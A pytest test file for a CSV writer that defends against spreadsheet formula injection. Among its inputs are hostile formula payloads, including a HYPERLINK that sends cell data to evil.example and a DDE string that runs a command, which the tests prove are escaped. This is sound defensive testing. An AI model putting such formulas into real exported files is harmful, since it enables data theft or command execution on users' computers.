"""The one CSV writer: text that a spreadsheet would run as a formula is written with a single
quote in front (OWASP's CSV injection advice); numbers stay numbers, decided by type."""
import csv
import io
from decimal import Decimal

import pytest

from screening.core import csvfile


def written(*cells):
    out = io.StringIO()
    csvfile.writer(out).writerow(cells)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1",
    "-0.25",  # text that looks like a number is still text: only its type makes a number
    "  =1+1",  # spreadsheets that trim spaces on import see the = first
    "\n\n@SUM(1)",
    " \t+cmd",
])
def test_text_that_would_start_a_formula_gets_a_single_quote_in_front(text):
    assert written(text) == ["'" + text]


@pytest.mark.parametrize("text", [
    "", "Blue light and sleep", "a = b", "1-2", "2018", "'=already quoted", " spaced words", "10.1000/x-y",
    "Shechter A; Kim EW", "e-mail: bob@example.org", "−0.25",  # U+2212 MINUS SIGN is no formula
])
def test_ordinary_text_is_written_as_it_is(text):
    assert written(text) == [text]


@pytest.mark.parametrize("number, cell", [(-3, "-3"), (0, "0"), (-0.25, "-0.25"), (Decimal("-0.2500"), "-0.2500"),
                                          (1.5e-05, "1.5e-05"), (True, "True")])
def test_numbers_are_decided_by_type_and_stay_numbers(number, cell):
    assert written(number) == [cell]


def test_none_is_an_empty_cell_and_other_values_are_text():
    from datetime import date

    assert written(None, date(2026, 1, 2), ["x"]) == ["", "2026-01-02", "['x']"]


def test_quotes_commas_and_line_breaks_cannot_start_a_new_cell():
    assert written('x,=1+1', 'a"\n=1', "=1\n=2") == ['x,=1+1', 'a"\n=1', "'=1\n=2"]


def test_stream_yields_the_same_text_as_the_writer_in_chunks():
    rows = [["title", "kappa"]] + [[f"=row {i}", Decimal("-0.5")] for i in range(7)]
    chunks = list(csvfile.stream(rows, rows_per_chunk=3))
    out = io.StringIO()
    csvfile.writer(out).writerows(rows)
    assert len(chunks) == 3 and "".join(chunks) == out.getvalue()
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=row 0", "-0.5"]
